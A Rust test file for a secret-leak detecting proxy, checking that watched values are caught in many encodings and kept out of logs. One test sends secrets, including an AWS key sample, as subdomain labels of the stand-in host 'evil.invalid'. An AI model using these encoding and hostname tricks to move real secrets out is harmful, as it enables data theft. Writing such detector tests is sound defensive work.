//! Secrets that are known by their value: found in each form that they may leave in, and written nowhere.

use std::fs;
use std::path::Path;

use data_encoding::{BASE64, BASE64URL, HEXLOWER, HEXUPPER};

use crate::support::connection::find;
use crate::support::samples::sample;
use crate::support::{Origin, Proxy, Reply, Setup, json};

/// Of no format that a rule knows.
const VALUE: &str = "plain&simple EXAMPLE phrase/of mine";

fn watched() -> Setup {
    Setup::new(json!({ "watch_env": ["APP_PASSWORD"] })).environment("APP_PASSWORD", VALUE)
}

fn post(proxy: &Proxy, origin: &Origin, path: &str, headers: &str, body: &str) {
    let (dest, length) = (origin.dest(), body.len());
    let response = proxy.exchange(format!(
        "POST http://{dest}{path} HTTP/1.1\r\nHost: {dest}\r\n{headers}Content-Length: {length}\r\n\r\n{body}"
    ));
    assert_eq!(response.status(), 200);
}

/// No file of the monitor's, and nothing that it printed, holds 8 bytes of a value.
fn assert_nowhere(proxy: &Proxy, value: &str) {
    let printed = ["stdout", "stderr"].map(|name| proxy.setup.directory().join(name));
    let files = fs::read_dir(proxy.log_dir()).unwrap().map(|entry| entry.unwrap().path());
    for path in files.chain(printed) {
        assert_not_in(&path, value);
    }
}

fn assert_not_in(path: &Path, value: &str) {
    let bytes = fs::read(path).unwrap();
    for part in value.as_bytes().windows(8) {
        let part_shown = String::from_utf8_lossy(part);
        assert_eq!(find(&bytes, part), None, "{} holds {part_shown:?}", path.display());
    }
}

#[test]
fn a_variables_value_is_found_in_each_form_and_shown_in_none() {
    let proxy = watched().start();
    let origin = Origin::http(|_| Reply::ok("ok"));
    let (first, second) = VALUE.split_at(VALUE.len() / 2);
    let form = "plain%26simple+EXAMPLE+phrase%2Fof+mine";
    let bodies = [
        (format!("{{\"a\": \"{VALUE}\"}}"), "[value of APP_PASSWORD]"),
        (BASE64.encode(format!("x{VALUE}yz").as_bytes()), "in base64]"),
        (BASE64URL.encode(format!("xy{VALUE}").as_bytes()), "in base64]"),
        (HEXLOWER.encode(VALUE.as_bytes()), "in hex]"),
        (HEXUPPER.encode(VALUE.as_bytes()), "in hex]"),
        (format!("a={form}&b=c"), "percent-encoded]"),
        (format!("first: {first};"), "first half]"),
        (format!("second: {second};"), "second half]"),
    ];
    for (body, _) in &bodies {
        post(&proxy, &origin, "/", "", body);
    }
    post(&proxy, &origin, &format!("/?q={form}"), "", "");
    post(&proxy, &origin, "/", &format!("X-Pass: {VALUE}\r\n"), "");
    let findings = proxy.settled_findings();
    let shown: Vec<&str> = findings.iter().map(|found| found.snippet.as_str()).collect();
    assert_eq!(findings.len(), bodies.len() + 2, "{shown:?}");
    for (found, (_, words)) in findings.iter().zip(&bodies) {
        assert_eq!((found.pattern.as_str(), found.threat_type.as_str()), ("known_value", "EXFIL"));
        assert!(found.snippet.contains("value of APP_PASSWORD"), "{found:?}");
        assert!(found.snippet.contains(words), "{found:?}");
        let is_half = words.contains("half");
        assert_eq!(found.confidence, if is_half { "low" } else { "high" }, "{found:?}");
        assert_eq!(found.severity, if is_half { "high" } else { "critical" }, "{found:?}");
        assert_eq!(found.fingerprint, findings[0].fingerprint);
    }
    assert_nowhere(&proxy, VALUE);
}

/// Each encoder that escapes something else than those that are known.
#[test]
fn a_value_is_found_and_hidden_whatever_of_it_is_percent_encoded() {
    let proxy = watched().start();
    let origin = Origin::http(|_| Reply::ok("ok"));
    let escaped: String = VALUE
        .chars()
        .map(|char| match char {
            'a' | 'e' | 'M' | ' ' | '/' => format!("%{:02x}", char as u8),
            other => other.to_string(),
        })
        .collect();
    let text = sample("unix_sensitive").text();
    post(&proxy, &origin, "/", "", &format!("pass={escaped} {text}"));
    post(&proxy, &origin, &format!("/?q={escaped}"), "", "");
    let findings = proxy.settled_findings();
    let known = findings.iter().filter(|found| found.pattern == "known_value");
    assert_eq!(known.count(), 2, "{findings:?}");
    assert!(findings.iter().any(|found| found.pattern == "unix_sensitive"), "{findings:?}");
    assert_nowhere(&proxy, VALUE);
    assert_nowhere(&proxy, &escaped);
}

#[test]
fn a_value_split_over_reads_and_chunks_is_found_and_one_that_arrives_is_not_told() {
    let proxy = watched().start();
    let origin = Origin::http(|request| Reply::ok(&request.body));
    let (dest, mut client) = (origin.dest(), proxy.connect());
    client.send(format!(
        "POST http://{dest}/ HTTP/1.1\r\nHost: {dest}\r\nTransfer-Encoding: chunked\r\n\r\n"
    ));
    for piece in VALUE.as_bytes().chunks(5) {
        client.send([format!("{:x}\r\n", piece.len()).as_bytes(), piece, b"\r\n"].concat());
    }
    client.send("0\r\n\r\n");
    assert_eq!(client.receive_response().text(), VALUE);
    let findings = proxy.settled_findings();
    assert_eq!(findings.len(), 1, "{findings:?}");
    assert_eq!(findings[0].direction, "outbound");
    assert_nowhere(&proxy, VALUE);
}

#[test]
fn a_value_beside_another_finding_is_hidden_in_its_snippet() {
    let proxy = watched().start();
    let origin = Origin::http(|request| Reply::ok(&request.body));
    let text = sample("unix_sensitive").text();
    post(&proxy, &origin, "/", "", &format!("{VALUE} {text} {VALUE}"));
    // Cut off by the end of what had arrived.
    post(&proxy, &origin, "/", "", &format!("{text} {}", &VALUE[..VALUE.len() - 1]));
    let findings = proxy.settled_findings();
    let count = |pattern| findings.iter().filter(|found| found.pattern == pattern).count();
    assert_eq!((count("unix_sensitive"), count("known_value")), (4, 3), "{findings:?}");
    assert_nowhere(&proxy, VALUE);
}

#[test]
fn files_are_watched_by_their_content_their_values_and_their_leaves() {
    let setup = Setup::new(json!({}));
    let path = |name: &str| setup.directory().join(name);
    fs::write(path("token"), "whole EXAMPLE content\n").unwrap();
    fs::write(path(".env"), "MODE=production\nDB=\"dotenv EXAMPLE value\"\n").unwrap();
    fs::write(path("keys.json"), r#"{"a": [{"b": "json EXAMPLE leaf"}]}"#).unwrap();
    let files = [path("token"), path(".env"), path("keys.json")];
    let proxy = setup.with(json!({ "watch_files": files })).start();
    let origin = Origin::http(|_| Reply::ok("ok"));
    let values = ["whole EXAMPLE content", "dotenv EXAMPLE value", "json EXAMPLE leaf"];
    for value in values {
        post(&proxy, &origin, "/", "", &format!("mode production, {value}."));
    }
    let findings = proxy.settled_findings();
    assert_eq!(findings.len(), values.len(), "{findings:?}");
    for (found, name) in findings.iter().zip(["/token]", "DB of ", "a.b of "]) {
        assert!(found.snippet.contains(name), "{found:?}");
    }
    values.iter().for_each(|value| assert_nowhere(&proxy, value));
}

/// It stood whole in `dest`.
#[test]
fn a_value_in_a_hosts_name_is_in_no_finding() {
    let value = "Label-EXAMPLE-12";
    let settings = json!({ "watch_env": ["APP_LABEL"], "connect_timeout_secs": 1 });
    let proxy = Setup::new(settings).environment("APP_LABEL", value).start();
    let id = sample("aws_access_key").text();
    let key = ["AIza", "SyEXAMPLE-abcdEFGH-0123456789-ijklM"].concat();
    let hex = HEXLOWER.encode(value.as_bytes());
    for label in [value, &hex, &id, &key] {
        let host = format!("{label}.evil.invalid");
        let response = proxy.exchange(format!(
            "GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"
        ));
        assert_eq!(response.status(), 502);
    }
    let findings = proxy.settled_findings();
    let count = |pattern| findings.iter().filter(|found| found.pattern == pattern).count();
    // Each in the target and in the Host field.
    assert_eq!((count("known_value"), count("aws_access_key")), (4, 2), "{findings:?}");
    assert!(count("gcp_api_key") > 0, "{findings:?}");
    let is_cut = |dest: &str| dest.ends_with("....evil.invalid:80");
    assert!(findings.iter().all(|found| is_cut(&found.dest)), "{findings:?}");
    let text = std::fs::read_to_string(proxy.log_dir().join("threats.jsonl")).unwrap();
    for secret in [value, &value.to_lowercase(), &hex, &id.to_lowercase(), &key.to_lowercase()] {
        assert!(!text.contains(secret), "{text}");
    }
}

#[test]
fn what_cannot_be_watched_for_is_said_without_its_value() {
    let proxy = Setup::new(json!({ "watch_env": ["SHORT_ONE", "ABSENT_ONE"] }))
        .environment("SHORT_ONE", "seven77")
        .start();
    proxy.wait_for_log(&["WARNING", "SHORT_ONE has 7 bytes"]);
    proxy.wait_for_log(&["WARNING", "ABSENT_ONE is not set"]);
    assert!(!proxy.log().contains("seven77"));
}
